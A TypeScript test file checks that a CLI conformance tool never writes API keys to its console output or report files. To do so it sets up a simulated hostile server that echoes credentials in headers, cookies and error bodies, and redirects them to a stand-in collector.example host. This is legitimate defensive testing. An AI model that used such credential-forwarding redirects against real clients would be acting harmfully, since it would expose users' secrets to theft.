// The API keys never reach a byte the run writes: a target that echoes the Authorization header back in its
// bodies, in a header, in error messages and in a redirect Location, run through the real command line, and
// every byte of stdout, stderr and every file in REPORT_DIR scanned for every secret form of both keys.

import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { secretForms } from '../../src/http/secrets.js';
import { startReferenceServer, type RunningReference } from '../../src/reference/server.js';
import { runCli, type CliResult } from '../e2e/run-cli.js';
import { caFileFor, startHttps, startProxy, type Hostile, type SeenRequest, type Upstream, expectNothingLeftBehind } from './servers.js';

const cleanups: Array<() => unknown> = [];
expectNothingLeftBehind(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
  // Servers closed, sockets gone, child processes exited: nothing the test started is left behind.
});

/** Every text the run produced: console output and every file written, decoded both ways a reader might. */
function everything(result: CliResult): Array<[string, string]> {
  const out: Array<[string, string]> = [['stdout', result.stdout], ['stderr', result.stderr]];
  for (const [name, latin1] of result.files) {
    out.push([name, latin1], [`${name} (utf-8)`, Buffer.from(latin1, 'latin1').toString('utf8')]);
  }
  return out;
}

function leaks(result: CliResult, keys: readonly string[]): string[] {
  // The module's own list, plus the forms spelled out here, so a form dropped from that list is still caught.
  const forms = keys.flatMap((k) => [...secretForms(k), k, k.toUpperCase(), k.toLowerCase(), encodeURIComponent(k), Buffer.from(k).toString('base64'), Buffer.from(`${k}:`).toString('base64'), k.slice(0, 12)]);
  const found: string[] = [];
  for (const [where, text] of everything(result)) for (const form of forms) if (text.includes(form)) found.push(`${where} holds "${form}"`);
  return found;
}

/** Echoes whatever Authorization it got, and the keys themselves, everywhere a server can put text. */
function echoing(keys: readonly string[]): (req: SeenRequest, upstream: () => Promise<Upstream>) => Promise<Upstream> {
  return async (req, upstream) => {
    const auth = req.headers.authorization ?? '(none)';
    const echoHeaders = {
      'x-echo-authorization': auth,
      'x-debug': `keys=${keys.join(',')} b64=${Buffer.from(`${keys[0]}:`).toString('base64')}`,
      'set-cookie': `session=${encodeURIComponent(auth)}`,
    };
    // A redirect for every update, to another host, carrying the credentials in its Location.
    if (req.method === 'PUT' && req.headers.authorization !== undefined) {
      return { status: 307, headers: { ...echoHeaders, location: `https://collector.example/orders?auth=${encodeURIComponent(auth)}&key=${keys[0]}` }, body: '' };
    }
    const up = await upstream();
    const headers = { ...up.headers, ...echoHeaders };
    if (up.status >= 400) {
      const body = { statusCode: up.status, error: 'Unauthorized', message: `invalid credentials "${auth}"; the valid one is ${keys[0]} (${keys[0]!.toUpperCase()}, ${encodeURIComponent(keys[1]!)})`, you_sent: auth };
      return { status: up.status, headers, body: JSON.stringify(body) };
    }
    // Success bodies: the credentials inside the data itself, where a schema still accepts a string.
    let json: unknown;
    try {
      json = JSON.parse(up.body);
    } catch {
      return { ...up, headers };
    }
    if (typeof json === 'object' && json !== null && 'scan_forms' in json) {
      const forms = (json as { scan_forms: Array<Record<string, unknown>> }).scan_forms;
      for (const form of forms) form.message = `created for ${auth}`;
    }
    return { status: up.status, headers, body: JSON.stringify({ ...(Array.isArray(json) ? { orders: json } : (json as object)), echo: auth, debug: keys }) };
  };
}

describe('secrets never leave the process', () => {
  it('an echoing target: no key form in stdout, stderr, conformance.json, junit.xml or any other file', async () => {
    const reference: RunningReference = await startReferenceServer({});
    cleanups.push(() => reference.close());
    const [a, b] = reference.accounts;
    const keys = [a.apiKey, b.apiKey];
    const proxy = await startProxy(reference, echoing(keys));
    cleanups.push(() => proxy.close());
    const result = await runCli(['run'], { ORDERS_BASE_URL: proxy.url, API_KEY: a.apiKey, SECOND_API_KEY: b.apiKey, CA_FILE: proxy.caFile, ENABLED_METADATA_KEYS: a.enabledMetadataKeys.join(','), REQUEST_TIMEOUT_MS: '5000' });
    cleanups.push(() => result.cleanup());

    // The run happened and wrote evidence worth leaking: failures with bodies, headers and curl commands.
    expect(result.code, result.stderr).toBe(1);
    // Every format the run writes is scanned, whatever it is: JSON, JUnit, HTML, Markdown.
    expect([...result.files.keys()]).toEqual(expect.arrayContaining(['conformance.json', 'junit.xml', 'report.html', 'summary.md']));
    const evidence = result.report?.requirements.flatMap((r) => r.evidence) ?? [];
    expect(evidence.some((e) => e.status === 307 && e.headers?.location?.includes('$API_KEY') === true)).toBe(true);
    expect(evidence.some((e) => e.headers?.['x-echo-authorization'] === 'Bearer $API_KEY')).toBe(true);
    expect(evidence.some((e) => e.bodyExcerpt?.includes('the valid one is $API_KEY') === true)).toBe(true);
    expect(evidence.some((e) => e.curl?.includes('"Authorization: Bearer $API_KEY"') === true)).toBe(true);
    // The proxy really did echo the keys: the scan is not vacuous.
    expect(proxy.seen.some((r) => r.headers.authorization === `Bearer ${a.apiKey}`)).toBe(true);

    expect(leaks(result, keys)).toEqual([]);
  });

  it('a key read from a .env file stays out of a one-line exit-2 message that would have echoed it', async () => {
    const key = 'osfc_DotenvOnly_Key_5551234';
    const second = 'osfc_DotenvOnly_Other_98765';
    const server: Hostile = await startHttps((req, res) => {
      res.writeHead(302, { location: `https://collector.example/?h=${encodeURIComponent(req.headers.authorization ?? '')}&k=${key}&s=${second}` });
      res.end();
    });
    cleanups.push(() => server.close());
    const { dir, caFile } = caFileFor('');
    cleanups.push(() => rmSync(dir, { recursive: true, force: true }));
    const envFile = join(dir, 'target.env');
    writeFileSync(envFile, `ORDERS_BASE_URL=${server.url}\nAPI_KEY=${key}\nSECOND_API_KEY=${second}\nCA_FILE=${server.caFile}\n`);
    void caFile;
    const result = await runCli(['run', '--dotenv', envFile], { REQUEST_TIMEOUT_MS: '2000' });
    cleanups.push(() => result.cleanup());
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/redirecting to https:\/\/collector\.example\/\?h=Bearer%20\$API_KEY&k=\$API_KEY&s=\$SECOND_API_KEY; the suite never follows redirects/);
    expect(leaks(result, [key, second])).toEqual([]);
  });
});
